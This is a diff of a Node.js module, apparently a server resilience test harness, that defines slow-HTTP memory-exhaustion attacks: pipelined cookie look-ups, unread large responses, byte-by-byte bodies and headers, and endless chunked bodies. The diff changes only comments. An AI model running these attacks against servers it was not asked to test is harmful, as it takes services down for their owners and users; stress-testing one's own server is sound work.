@@ -2,8 +2,8 @@ import { randomBytes } from 'node:crypto'
 import { connect } from 'node:net'
 
 /**
- * Ways to use up a server's memory without signing in. Each opens so many connections, opens each anew when it ends, and
- * `begin` says what one of them does; it returns what stops it.
+ * Attacks on a server's memory without signing in. Each opens this many connections and reopens those that
+ * close. `begin` starts one connection and returns a function that stops it.
  */
 export const attacks = {
   pipelining: { connections: 2, begin: pipeline },
@@ -22,7 +22,7 @@ const post = [
 ]
 const asText = (...lines) => [...lines, '', ''].join('\r\n')
 
-/** Session look-ups with invented cookies, as fast as the connection takes them. */
+/** Session look-ups with random cookies, as fast as the connection accepts them. */
 function pipeline(socket) {
   socket.resume()
   const look = () => {
@@ -37,16 +37,16 @@ function pipeline(socket) {
   return () => {}
 }
 
-/** Large answers that are never read. */
+/** Large responses that are never read. */
 function leaveUnread(socket) {
   socket.pause()
   socket.write(asText('GET /large.svg HTTP/1.1', host).repeat(2))
-  // A socket that is not read notices its end only when it is written to.
+  // A socket that is not read detects its end only when it is written to.
   const timer = setInterval(() => socket.write('x'), 5_000)
   return () => clearInterval(timer)
 }
 
-/** A body of the longest length that comes a byte at a time. */
+/** A body of the maximum length, one byte at a time. */
 function dripBody(socket) {
   socket.resume()
   socket.write(asText(...post, 'Content-Length: 65000'))
@@ -55,7 +55,7 @@ function dripBody(socket) {
   return () => clearInterval(timer)
 }
 
-/** A body in many thousand pieces of one byte, whose end never comes. */
+/** An endless body in chunks of one byte. */
 function sendPieces(socket) {
   socket.resume()
   socket.write(asText(...post, 'Transfer-Encoding: chunked'))
@@ -66,7 +66,7 @@ function sendPieces(socket) {
   return () => clearInterval(timer)
 }
 
-/** Headers that come a byte at a time. */
+/** Headers, one byte at a time. */
 function dripHeaders(socket) {
   socket.resume()
   socket.write(`GET / HTTP/1.1\r\n${host}\r\nX: `)
@@ -74,7 +74,7 @@ function dripHeaders(socket) {
   return () => clearInterval(timer)
 }
 
-/** Begins an attack; returns its counts and what ends it. */
+/** Starts an attack. Returns its counts and a function that stops it. */
 export function attack(name, port) {
   const { connections, begin } = attacks[name]
   const counts = { opened: 0, ended: 0, answers: 0 }
